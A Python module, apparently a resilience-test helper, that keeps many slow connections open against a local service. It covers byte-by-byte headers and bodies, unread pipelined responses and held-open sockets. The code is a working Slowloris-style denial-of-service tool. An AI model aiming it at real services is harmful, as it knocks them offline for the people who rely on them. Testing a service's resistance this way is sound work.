"""Attacks on availability: many connections of callers who are slow, each kind in its own way.

A connection that the service has cut is renewed, so that there are always as many. One thread keeps
all of them going.
"""

from __future__ import annotations

import socket
import threading
import time
from collections.abc import Callable, Iterator
from contextlib import contextmanager, suppress
from dataclasses import dataclass

EACH = 0.1  # seconds from one byte of a connection to its next
HOLD = 3.0  # seconds that one who does not hang up stays
LIVE = b"GET /health/live HTTP/1.1\r\nHost: x\r\n"
LENGTH = b"Content-Type: application/json\r\nContent-Length: 99999\r\n"


@dataclass(frozen=True)
class Attack:
    """What a connection sends at first, and then again and again, with a token or none.

    It is renewed once it is answered or cut, or after ``seconds``; one that does not read is only
    once it is cut.
    """

    name: str
    first: bytes = b""
    then: bytes = b""
    end: bytes = b""
    bears_token: bool = False
    reads: bool = True
    seconds: float = float("inf")


def attacks(service: str) -> list[Attack]:
    """All that are known here, against the address of a service."""
    post = f"POST {service} HTTP/1.1\r\nHost: x\r\n".encode()
    return [
        Attack("nothing sent"),
        Attack("head a byte at a time", post + b"X-Slow: ", b"x"),
        Attack("body a byte at a time", post + LENGTH, b" ", b"\r\n", bears_token=True),
        Attack("body a byte at a time, no token", post + LENGTH, b" ", b"\r\n"),
        Attack("answers not read", LIVE + b"\r\n", (LIVE + b"\r\n") * 100, reads=False),
        Attack("not hung up", LIVE + b"Connection: close\r\n\r\n", seconds=HOLD, reads=False),
    ]


@contextmanager
def under(
    attack: Attack, port: int, connections: int, token: Callable[[], str] = lambda: ""
) -> Iterator[list[int]]:
    """Within it, the attack is going on. Gives how many connections were made, once it is over."""
    made, over = [0], threading.Event()
    arguments = (attack, port, connections, token, over, made)
    thread = threading.Thread(target=_keep_going, args=arguments)
    thread.start()
    try:
        yield made
    finally:
        over.set()
        thread.join()


def _keep_going(
    attack: Attack,
    port: int,
    connections: int,
    token: Callable[[], str],
    over: threading.Event,
    made: list[int],
) -> None:
    held: dict[socket.socket, float] = {}
    while not over.is_set():
        began = time.monotonic()
        for connection, since in list(held.items()):
            if began - since > attack.seconds or not _goes_on(attack, connection):
                del held[connection]
                connection.close()
        for _ in range(connections - len(held)):
            with suppress(OSError):
                held[_begun(attack, port, token)] = time.monotonic()
                made[0] += 1
        over.wait(max(0.01, EACH - (time.monotonic() - began)))
    for connection in held:
        connection.close()


def _begun(attack: Attack, port: int, token: Callable[[], str]) -> socket.socket:
    connection = socket.socket()
    connection.settimeout(1)
    try:
        connection.connect(("127.0.0.1", port))
        connection.setblocking(False)
        first = attack.first
        if attack.bears_token and (bearer := token()):
            first += f"Authorization: Bearer {bearer}\r\n".encode()
        connection.send(first + attack.end)
    except OSError:
        connection.close()
        raise
    return connection


def _goes_on(attack: Attack, connection: socket.socket) -> bool:
    """Send the next; whether it was neither answered nor cut."""
    try:
        connection.send(attack.then)
    except BlockingIOError:
        pass
    except OSError:
        return False
    if not attack.reads:
        return True
    try:
        connection.recv(1 << 16)
    except BlockingIOError:
        return True
    except OSError:
        pass
    return False
